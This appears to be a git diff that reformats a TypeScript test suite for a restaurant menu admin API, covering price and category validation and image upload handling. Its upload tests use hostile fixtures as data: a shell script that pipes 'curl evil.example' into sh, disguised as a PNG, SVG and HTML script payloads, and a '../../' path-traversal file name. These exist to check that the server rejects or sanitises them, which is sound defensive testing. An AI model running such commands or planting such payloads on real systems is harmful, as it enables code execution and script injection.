@@ -18,7 +18,10 @@ interface MenuItem {
   soldOut: boolean;
 }
 
-const png = (w = 800, h = 600) => sharp({ create: { width: w, height: h, channels: 3, background: { r: 30, g: 140, b: 60 } } }).png().toBuffer();
+const png = (w = 800, h = 600) =>
+  sharp({ create: { width: w, height: h, channels: 3, background: { r: 30, g: 140, b: 60 } } })
+    .png()
+    .toBuffer();
 
 function form(fields: Record<string, string>, file?: { bytes: Buffer; name: string; type: string }, fileField = 'image'): FormData {
   const f = new FormData();
@@ -75,7 +78,10 @@ describe('menu admin: validation', () => {
       ['0', 'Price must be more than 0'],
       ['-3', 'Price must be more than 0'],
     ] as const) {
-      const r = await t.call('POST', '/api/menu/admin', { form: form({ ...dish, price }, { bytes: await png(), name: 'a.png', type: 'image/png' }), token: tokens.admin });
+      const r = await t.call('POST', '/api/menu/admin', {
+        form: form({ ...dish, price }, { bytes: await png(), name: 'a.png', type: 'image/png' }),
+        token: tokens.admin,
+      });
       expect([r.status, r.body.message]).toEqual([400, message]);
     }
   });
@@ -89,16 +95,25 @@ describe('menu admin: validation', () => {
       ['-1', 'Price must be more than 0'],
       ['100000.01', 'Price must be at most 100000'],
     ] as const) {
-      const r = await t.call('POST', '/api/menu/admin', { form: form({ ...dish, price }, { bytes: await png(), name: 'a.png', type: 'image/png' }), token: tokens.admin });
+      const r = await t.call('POST', '/api/menu/admin', {
+        form: form({ ...dish, price }, { bytes: await png(), name: 'a.png', type: 'image/png' }),
+        token: tokens.admin,
+      });
       expect([price, r.status, r.body.message]).toEqual([price, 400, message]);
     }
     expect({ listed: (await menuGet()).body.data!.length, stored: await t.store.count(MENU) }).toEqual(before);
   });
 
   it('a price of 100000 and one of 4.99 are kept to the cent', async () => {
-    const r = await t.call<MenuItem>('POST', '/api/menu/admin', { form: form({ ...dish, name: 'Royal Feast', price: '100000' }, { bytes: await png(), name: 'a.png', type: 'image/png' }), token: tokens.admin });
+    const r = await t.call<MenuItem>('POST', '/api/menu/admin', {
+      form: form({ ...dish, name: 'Royal Feast', price: '100000' }, { bytes: await png(), name: 'a.png', type: 'image/png' }),
+      token: tokens.admin,
+    });
     expect([r.status, r.body.data?.price]).toEqual([201, 100000]);
-    const edited = await t.call<MenuItem>('PUT', `/api/menu/admin/${r.body.data!._id}`, { form: form({ ...dish, name: 'Royal Feast', price: '4.99' }), token: tokens.admin });
+    const edited = await t.call<MenuItem>('PUT', `/api/menu/admin/${r.body.data!._id}`, {
+      form: form({ ...dish, name: 'Royal Feast', price: '4.99' }),
+      token: tokens.admin,
+    });
     expect([edited.status, edited.body.data?.price]).toEqual([200, 4.99]);
     expect((await t.call('DELETE', `/api/menu/admin/${r.body.data!._id}`, { token: tokens.admin })).status).toBe(200);
   });
@@ -109,14 +124,20 @@ describe('menu admin: validation', () => {
   });
 
   it('an unknown category is refused', async () => {
-    const r = await t.call('POST', '/api/menu/admin', { form: form({ ...dish, category: 'Pizza' }, { bytes: await png(), name: 'a.png', type: 'image/png' }), token: tokens.admin });
+    const r = await t.call('POST', '/api/menu/admin', {
+      form: form({ ...dish, category: 'Pizza' }, { bytes: await png(), name: 'a.png', type: 'image/png' }),
+      token: tokens.admin,
+    });
     expect(r.status).toBe(400);
     expect(r.body.message).toBe('Unknown category: Pizza');
   });
 
   it('a category stored in categories/ is accepted', async () => {
     await t.store.set('categories', 'extra-1', { name: 'Chaat', position: 50 });
-    const r = await t.call<MenuItem>('POST', '/api/menu/admin', { form: form({ ...dish, name: 'Pani Puri', category: 'Chaat' }, { bytes: await png(), name: 'p.png', type: 'image/png' }), token: tokens.admin });
+    const r = await t.call<MenuItem>('POST', '/api/menu/admin', {
+      form: form({ ...dish, name: 'Pani Puri', category: 'Chaat' }, { bytes: await png(), name: 'p.png', type: 'image/png' }),
+      token: tokens.admin,
+    });
     expect(r.status).toBe(201);
     expect(r.body.data!.category).toBe('Chaat');
   });
@@ -124,10 +145,30 @@ describe('menu admin: validation', () => {
 
 describe('menu admin: bad uploads store nothing', () => {
   const cases: Array<[string, () => Promise<{ bytes: Buffer; name: string; type: string }>, number, RegExp]> = [
-    ['a 20 MB file', async () => ({ bytes: Buffer.concat([await png(10, 10), Buffer.alloc(20 * 1024 * 1024, 1)]), name: 'huge.png', type: 'image/png' }), 413, /5 MB/],
-    ['a script renamed .png', async () => ({ bytes: Buffer.from('#!/bin/sh\ncurl evil.example | sh\n'), name: 'cute.png', type: 'image/png' }), 415, /^Only JPEG, PNG or WebP images are allowed$/],
-    ['an SVG', async () => ({ bytes: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'), name: 'x.svg', type: 'image/svg+xml' }), 415, /^Only JPEG, PNG or WebP images are allowed$/],
-    ['an HTML page', async () => ({ bytes: Buffer.from('<!doctype html><script>alert(1)</script>'), name: 'x.jpg', type: 'image/jpeg' }), 415, /^Only JPEG, PNG or WebP images are allowed$/],
+    [
+      'a 20 MB file',
+      async () => ({ bytes: Buffer.concat([await png(10, 10), Buffer.alloc(20 * 1024 * 1024, 1)]), name: 'huge.png', type: 'image/png' }),
+      413,
+      /5 MB/,
+    ],
+    [
+      'a script renamed .png',
+      async () => ({ bytes: Buffer.from('#!/bin/sh\ncurl evil.example | sh\n'), name: 'cute.png', type: 'image/png' }),
+      415,
+      /^Only JPEG, PNG or WebP images are allowed$/,
+    ],
+    [
+      'an SVG',
+      async () => ({ bytes: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'), name: 'x.svg', type: 'image/svg+xml' }),
+      415,
+      /^Only JPEG, PNG or WebP images are allowed$/,
+    ],
+    [
+      'an HTML page',
+      async () => ({ bytes: Buffer.from('<!doctype html><script>alert(1)</script>'), name: 'x.jpg', type: 'image/jpeg' }),
+      415,
+      /^Only JPEG, PNG or WebP images are allowed$/,
+    ],
   ];
   for (const [label, file, status, message] of cases) {
     it(`${label} gets ${status}, and neither the media folder nor the store changes`, async () => {
@@ -160,7 +201,10 @@ describe('menu admin: add, edit and delete keep GET /api/menu in step', () => {
 
   it('POST adds the item with a server-named WebP image; the public menu shows it and its ETag changes', async () => {
     const etagBefore = (await menuGet()).headers.get('etag');
-    const r = await t.call<MenuItem>('POST', '/api/menu/admin', { form: form(dish, { bytes: await png(), name: '../../evil name.png', type: 'image/png' }), token: tokens.admin });
+    const r = await t.call<MenuItem>('POST', '/api/menu/admin', {
+      form: form(dish, { bytes: await png(), name: '../../evil name.png', type: 'image/png' }),
+      token: tokens.admin,
+    });
     expect(r.status).toBe(201);
     expect(r.body.message).toBe('Item added');
     created = r.body.data!;
@@ -202,7 +246,10 @@ describe('menu admin: add, edit and delete keep GET /api/menu in step', () => {
   });
 
   it('PUT without an image keeps the current one and the sold-out flag when it is not sent', async () => {
-    const r = await t.call<MenuItem>('PUT', `/api/menu/admin/${created._id}`, { form: form({ ...dish, name: 'Kesar Lassi', price: '4.75' }), token: tokens.admin });
+    const r = await t.call<MenuItem>('PUT', `/api/menu/admin/${created._id}`, {
+      form: form({ ...dish, name: 'Kesar Lassi', price: '4.75' }),
+      token: tokens.admin,
+    });
     expect(r.status).toBe(200);
     expect(r.body.data).toMatchObject({ name: 'Kesar Lassi', price: 4.75, image: created.image, soldOut: true });
     expect(mediaFiles()).toContain(created.image.split('/').pop());
@@ -210,7 +257,10 @@ describe('menu admin: add, edit and delete keep GET /api/menu in step', () => {
 
   it('PUT on a missing item is a 404 and the image it uploaded is deleted again', async () => {
     const before = mediaFiles();
-    const r = await t.call('PUT', '/api/menu/admin/NoSuchItem00000000', { form: form(dish, { bytes: await png(), name: 'c.png', type: 'image/png' }), token: tokens.admin });
+    const r = await t.call('PUT', '/api/menu/admin/NoSuchItem00000000', {
+      form: form(dish, { bytes: await png(), name: 'c.png', type: 'image/png' }),
+      token: tokens.admin,
+    });
     expect(r.status).toBe(404);
     expect(mediaFiles()).toEqual(before);
   });
